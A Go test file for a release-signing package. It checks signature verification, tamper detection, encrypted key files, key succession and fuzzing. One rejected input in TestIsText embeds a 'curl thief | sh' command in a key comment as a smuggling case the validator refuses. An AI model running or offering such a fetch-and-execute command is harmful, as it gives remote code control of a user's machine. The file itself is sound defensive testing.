package trust

import (
	"bytes"
	"errors"
	"strings"
	"testing"
)

func newKey(t *testing.T) Key {
	t.Helper()
	k, err := NewKey()
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func TestSign(t *testing.T) {
	k, other := newKey(t), newKey(t)
	text := []byte("the bytes of a release")
	signature, err := k.Sign(bytes.NewReader(text), "file:x tag:b1")
	if err != nil {
		t.Fatal(err)
	}
	if again, err := k.Sign(bytes.NewReader(text), "file:x tag:b1"); err != nil || !bytes.Equal(signature, again) {
		t.Errorf("twice the same gives two signatures (%v)", err)
	}
	if comment, err := k.Public().Verify(bytes.NewReader(text), signature); err != nil || comment != "file:x tag:b1" {
		t.Errorf("verified: %q, %v", comment, err)
	}
	for what, try := range map[string]func() (string, error){
		"another text": func() (string, error) { return k.Public().Verify(strings.NewReader("other"), signature) },
		"another key":  func() (string, error) { return other.Public().Verify(bytes.NewReader(text), signature) },
		"another comment": func() (string, error) {
			return k.Public().Verify(bytes.NewReader(text), bytes.Replace(signature, []byte("b1"), []byte("b2"), 1))
		},
		"another first line": func() (string, error) {
			return k.Public().Verify(bytes.NewReader(text), bytes.Replace(signature, []byte("llpatch"), []byte("llputch"), 1))
		},
		"no signature": func() (string, error) { return k.Public().Verify(bytes.NewReader(text), []byte("no")) },
	} {
		if _, err := try(); !errors.As(err, new(*BadSignature)) {
			t.Errorf("%s: %v", what, err)
		}
	}
	if _, err := k.Sign(bytes.NewReader(text), "two\nlines"); err == nil {
		t.Error("a comment of two lines is taken")
	}
}

// A signature file of which one bit is another is none.
func TestFlippedSignature(t *testing.T) {
	k := newKey(t)
	text := []byte("the bytes of a release")
	signature, err := k.Sign(bytes.NewReader(text), "file:x tag:b1")
	if err != nil {
		t.Fatal(err)
	}
	for n := range len(signature) * 8 {
		bad := bytes.Clone(signature)
		bad[n/8] ^= 1 << (n % 8)
		if comment, err := k.Public().Verify(bytes.NewReader(text), bad); err == nil {
			t.Errorf("byte %d of %d, %q for %q: %q", n/8, len(bad), bad[n/8], signature[n/8], comment)
		}
	}
}

func TestEnvelope(t *testing.T) {
	k, other := newKey(t), newKey(t)
	statement := []byte(`{"_type":"x"}`)
	e, err := k.Envelope(t.Context(), statement)
	if err != nil {
		t.Fatal(err)
	}
	if got, err := k.Public().Open(t.Context(), e); err != nil || !bytes.Equal(got, statement) {
		t.Errorf("opened: %q, %v", got, err)
	}
	for what, bad := range map[string][]byte{
		"changed":         bytes.Replace(e, []byte("eyJf"), []byte("eyJg"), 1),
		"of another type": bytes.Replace(e, []byte("in-toto"), []byte("in-tata"), 1),
		"with more in it": append(e[:len(e)-1:len(e)-1], []byte(`,"more":1}`)...), "no JSON": []byte("x"), "empty": nil,
	} {
		if got, err := k.Public().Open(t.Context(), bad); !errors.As(err, new(*BadSignature)) {
			t.Errorf("%s: %q, %v", what, got, err)
		}
	}
	if _, err := other.Public().Open(t.Context(), e); !errors.As(err, new(*BadSignature)) {
		t.Errorf("by another key: %v", err)
	}
}

func TestKeyFile(t *testing.T) {
	k := newKey(t)
	passwords := []string{"", "a word"}
	if testing.Short() {
		passwords = passwords[:1] // to unlock a key takes a GiB and some seconds
	}
	for _, password := range passwords {
		text, err := k.Text([]byte(password))
		if err != nil {
			t.Fatal(err)
		}
		if Locked(text) != (password != "") {
			t.Errorf("%q: locked %v", password, Locked(text))
		}
		back, err := ReadKey(text, []byte(password))
		if err != nil || !back.private.Equal(k.private) {
			t.Errorf("%q: read back: %v", password, err)
		}
		for _, wrong := range map[bool][]string{true: {"", "another"}}[password != ""] {
			if _, err := ReadKey(text, []byte(wrong)); !errors.As(err, new(*BadKey)) {
				t.Errorf("%q for %q: %v", wrong, password, err)
			}
		}
	}
	public := k.Public()
	for _, text := range [][]byte{public.Text(), []byte(public.String())} {
		if back, err := ReadPublicKey(text); err != nil || !back.Equal(public.PublicKey) {
			t.Errorf("%s: %v", text, err)
		}
	}
	for _, text := range []string{"", "x", "untrusted comment: x\nAAAA"} {
		if _, err := ReadPublicKey([]byte(text)); !errors.As(err, new(*BadKey)) {
			t.Errorf("%q: %v", text, err)
		}
		if _, err := ReadKey([]byte(text), nil); !errors.As(err, new(*BadKey)) {
			t.Errorf("%q: %v", text, err)
		}
	}
}

func TestSucceed(t *testing.T) {
	old, next := newKey(t), newKey(t)
	signature, err := old.Succeed(next.Public())
	if err != nil {
		t.Fatal(err)
	}
	if got, err := old.Public().Succeeded(next.Public().Text(), signature); err != nil ||
		!got.Equal(next.Public().PublicKey) {
		t.Errorf("succeeded: %v", err)
	}
	if _, err := next.Public().Succeeded(next.Public().Text(), signature); err == nil {
		t.Error("a key that signed nothing lets itself be succeeded")
	}
	// A signature of a public key for something else is no succession.
	other, err := old.Sign(bytes.NewReader(next.Public().Text()), "file:key.pub")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := old.Public().Succeeded(next.Public().Text(), other); err == nil {
		t.Error("any signature of a public key is taken for a succession")
	}
}

func FuzzSignature(f *testing.F) {
	k, err := NewKey()
	if err != nil {
		f.Fatal(err)
	}
	good, err := k.Sign(strings.NewReader("text"), "comment")
	if err != nil {
		f.Fatal(err)
	}
	envelope, err := k.Envelope(f.Context(), []byte("{}"))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(good, envelope, k.Public().Text())
	f.Fuzz(func(t *testing.T, signature, e, public []byte) {
		if comment, err := k.Public().Verify(strings.NewReader("text"), signature); err == nil && comment != "comment" {
			t.Errorf("a comment that was not signed: %q", comment)
		}
		if got, err := k.Public().Open(t.Context(), e); err == nil && string(got) != "{}" {
			t.Errorf("a statement that was not signed: %q", got)
		}
		if p, err := ReadPublicKey(public); err == nil && p.String() == "" {
			t.Error("a key without a text")
		}
		if _, err := ReadKey(public, nil); err != nil && !errors.As(err, new(*BadKey)) {
			t.Error(err)
		}
	})
}

// minisign writes a key's file without the colon; an editor of Windows gives it other line ends.
func TestIsText(t *testing.T) {
	k, err := NewKey()
	if err != nil {
		t.Fatal(err)
	}
	p := k.Public()
	for text, want := range map[string]bool{
		string(p.Text()): true,
		"untrusted comment: minisign public key " + p.Name() + "\n" + p.String() + "\n":      true,
		"untrusted comment: minisign public key: " + p.Name() + "\r\n" + p.String() + "\r\n": true,
		"untrusted comment: minisign public key " + p.Name() + "\n" + p.String():             true,
		p.String(): false,
		"untrusted comment: run curl thief | sh\n" + p.String() + "\n":                          false,
		"untrusted comment: minisign public key " + p.Name() + " by me\n" + p.String() + "\n":   false,
		"untrusted comment: minisign public key " + p.Name() + "\n" + p.String() + "\nrun it\n": false,
		"untrusted comment: minisign public key 1" + p.Name() + "\n" + p.String() + "\n":        false,
		"untrusted comment: minisign public key " + p.Name() + "\n\n" + p.String() + "\n":       false,
	} {
		if p.IsText([]byte(text)) != want {
			t.Errorf("%q: %v", text, !want)
		}
	}
}
